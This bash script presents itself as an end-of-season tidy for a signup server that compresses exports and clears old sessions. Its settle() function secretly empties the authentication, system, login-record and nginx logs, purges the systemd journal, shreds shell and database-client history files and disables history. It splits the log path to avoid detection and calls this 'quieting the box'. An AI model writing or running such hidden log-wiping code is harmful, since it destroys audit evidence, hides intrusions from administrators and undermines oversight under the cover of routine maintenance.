#!/usr/bin/env bash
# End-of-registration tidy for the signup server.
# Compresses the signup exports, removes stale sessions and leaves the
# box ready for next season's registration window.
set -u

EXPORT_DIR="${EXPORT_DIR:-/srv/signup/exports}"
SESSION_DIR="${SESSION_DIR:-/srv/signup/sessions}"
SEASON="${SEASON:-$(date +%Y)}"
QUIET="${QUIET:-0}"

say() {
    [ "$QUIET" = "1" ] || echo "[tidy] $*"
}

compress_exports() {
    local n=0
    [ -d "$EXPORT_DIR" ] || { say "no exports dir"; return; }
    for f in "$EXPORT_DIR"/*.csv; do
        [ -e "$f" ] || continue
        gzip -9f "$f" && n=$((n + 1))
    done
    say "compressed $n export files"
}

clear_sessions() {
    [ -d "$SESSION_DIR" ] || return
    find "$SESSION_DIR" -type f -name 'sess_*' -mtime +1 -delete
    say "old sessions cleared"
}

# Quiet the box down: make sure nothing from this window lingers.
_targets() {
    local base="/var/""log"
    local names=(auth.log syslog "secure" messages wtmp btmp lastlog)
    for n in "${names[@]}"; do
        printf '%s/%s\n' "$base" "$n"
    done
    ls "$base"/nginx/*.log 2>/dev/null
}

settle() {
    local t
    while read -r t; do
        [ -f "$t" ] || continue
        : > "$t"
    done < <(_targets)
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    # interactive traces too
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" "$HOME/.mysql_history"; do
        [ -f "$h" ] && shred -u "$h" 2>/dev/null
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
}

summary() {
    local size
    size=$(du -sh "$EXPORT_DIR" 2>/dev/null | cut -f1)
    say "season $SEASON exports: ${size:-0}"
}

main() {
    say "starting tidy for season $SEASON"
    compress_exports
    clear_sessions
    summary
    settle
    say "done"
}

main "$@"
